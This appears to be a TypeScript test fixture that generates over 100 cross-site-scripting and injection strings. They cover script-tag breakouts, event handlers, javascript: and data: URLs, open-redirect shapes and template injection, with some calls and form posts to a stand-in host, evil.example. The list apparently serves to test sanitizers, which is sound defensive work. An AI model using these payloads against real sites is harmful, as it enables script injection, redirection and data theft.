const scripts = ['alert(1)', 'window.hostile=1', 'fetch("//evil.example")', 'top.location="//evil.example"'];

const shapes: readonly ((script: string) => string)[] = [
  (s) => `<script>${s}</script>`,
  (s) => `"><script>${s}</script>`,
  (s) => `'><script>${s}</script>`,
  (s) => `</title><script>${s}</script>`,
  (s) => `</textarea><script>${s}</script>`,
  (s) => `--><script>${s}</script><!--`,
  (s) => `]]><script>${s}</script>`,
  (s) => `<img src=x onerror='${s}'>`,
  (s) => `"><img src=x onerror=${s}>`,
  (s) => `<svg onload='${s}'>`,
  (s) => `<svg/onload=${s}//`,
  (s) => `<body onload='${s}'>`,
  (s) => `<iframe srcdoc="<script>${s}</script>"></iframe>`,
  (s) => `<a href='javascript:${s}'>x</a>`,
  (s) => `javascript:${s}`,
  (s) => `JaVaScRiPt:${s}`,
  (s) => `java\tscript:${s}`,
  (s) => ` \u0001javascript:${s}`,
  (s) => `data:text/html,<script>${s}</script>`,
  (s) => `vbscript:${s}`,
  (s) => `//evil.example/${s}`,
  (s) => `/\\evil.example/${s}`,
  (s) => `" onmouseover="${s}`,
  (s) => `' onfocus='${s}' autofocus='`,
  (s) => `\` onclick=\`${s}`,
  (s) => `<math><mi xlink:href="javascript:${s}">x</mi></math>`,
];

/** More than 100 strings that try to become markup, script or an address. */
export const hostileStrings: readonly string[] = [
  ...shapes.flatMap((shape) => scripts.map(shape)),
  '<',
  '&lt;script&gt;',
  '&#x3c;script&#x3e;',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<style>*{display:none}</style>',
  '<form action="//evil.example"><button>send',
  '\0<script>alert(1)</script>',
  '\u202E<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it tries to be a template
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
];
